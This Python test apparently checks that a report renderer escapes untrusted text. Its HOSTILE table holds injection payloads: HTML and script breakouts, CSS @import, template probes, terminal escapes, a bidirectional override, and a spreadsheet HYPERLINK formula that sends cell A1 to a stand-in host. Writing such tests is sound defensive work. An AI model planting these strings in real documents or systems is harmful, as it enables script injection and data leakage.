"""A report in which every text that somebody else may have written is hostile to a page."""

from attrs import evolve
from small_indicators import NOON, RATE, WATCH, indicator, plan
from small_office import trace

from docflow.files import Fault, RegisterFile
from docflow.kpi import at_most
from docflow.report import BILINGUAL, Report
from docflow.report.blocks import Column, Details, Grid, Line, Row, Section
from docflow.text import Text

HOSTILE = {
    "markup": '<b id="hostile" onload="alert(1)">bold</b><img src="x.png" onerror="alert(2)">&amp;&lt;',
    "the end of a style": '</style></title></main></svg><script>console.log("taken")</script><!--',
    "the end of an attribute": "\" onload=\"alert(3)\" x='/><iframe src='http://example.test/'>",
    "a style": "x;}*{display:none}@import url(http://example.test/x.css);/*",
    "a template": "{{ 7 * 7 }} {% for x in y %} ${7 * 7} {# gone #}",
    "a formula": '=HYPERLINK("http://example.test/?"&A1,"click")',
    "a terminal's command": "\x1b[2J\x1b]0;taken\x07gone",
    "marks of direction": "\u202e3652/1 reversed\u2066 and not",
    "a long word": "W" * 5_000,
}


def hostile_report():
    """Each text as title, owner, source and formula of an indicator, as the number of a late letter, a file and a cell."""
    one = "".join(text for name, text in HOSTILE.items() if name != "a long word")
    late = [trace(text, ("came", "01-06 09:00"), ("went", "01-20 17:00", text)) for text in HOSTILE.values()]
    named = [
        evolve(
            indicator(f"{number}", WATCH if number % 2 else RATE.measure, target=at_most(12), formula=Text(text, text)),
            title=Text(text, text),
            owner=text,
            source=text,
        )
        for number, text in enumerate(HOSTILE.values(), start=1)
    ]
    made = evolve(plan(*named), title=Text(one, one))
    faults = tuple(Fault(row, text, "unreadable", text, text, file=text) for row, text in enumerate(HOSTILE.values()))
    files = {text: RegisterFile(cases=(), faults=faults, notes=faults, rows=9) for text in HOSTILE.values()}
    beside = [
        Section(
            text,
            (
                Line(text),
                Line(text, "warning"),
                Grid((Column(text), Column(text, words=True)), (Row((text, text), "total"),), title=text, note=text),
                Details(text, (Text(text, text),)),
            ),
        )
        for text in HOSTILE.values()
    ]
    result = made.evaluate({"letters": late}, as_of=NOON)
    months = {"2020-01": result}
    return Report(
        result=result,
        files=files,
        missing=tuple(HOSTILE.values()),
        months=months,
        detailed=("1", "2"),
        more=beside,
        voice=BILINGUAL,
    )
